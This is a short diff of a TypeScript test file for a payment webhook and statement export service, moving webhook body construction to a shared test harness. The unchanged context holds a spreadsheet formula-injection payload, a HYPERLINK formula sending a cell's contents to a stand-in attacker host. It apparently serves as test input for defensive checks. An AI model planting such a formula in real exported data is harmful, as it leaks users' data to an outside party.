@@ -5,7 +5,7 @@ import type { Order, Statement } from '@vernetzt/shared/schemas/commerce'
 import type { PeriodList } from '@vernetzt/shared/schemas/periods'
 import { Types } from 'mongoose'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
-import { Client, makeMember, startTestServer, type TestServer } from '../../../test/harness.ts'
+import { Client, makeMember, paymentEventBody, startTestServer, type TestServer } from '../../../test/harness.ts'
 import { append } from '../../db/streams.ts'
 import { ensureAdmin } from '../accounts/service.ts'
 import { payeesStream } from './ledger.ts'
@@ -26,7 +26,7 @@ const paidAt = new Date(new Date(`${current}-01T00:00:00Z`).getTime() - 2 * 86_4
 const INJECTION = '=HYPERLINK("http://evil.example/?"&A1;"Klick")'
 
 async function webhook(type: string, reference: string, occurredAt: Date) {
-  const body = JSON.stringify({ id: `evt_${randomBytes(6).toString('hex')}`, type, reference, occurredAt: occurredAt.toISOString() })
+  const body = await paymentEventBody(server, { type, reference, occurredAt })
   const res = await fetch(`${server.url}/api/v1/payments/webhook`, { method: 'POST', body, headers: { 'content-type': 'application/json', [SIGNATURE_HEADER]: signWebhook(server.app.ctx.config.paymentWebhookSecret, body) } })
   expect(res.status).toBe(200)
 }
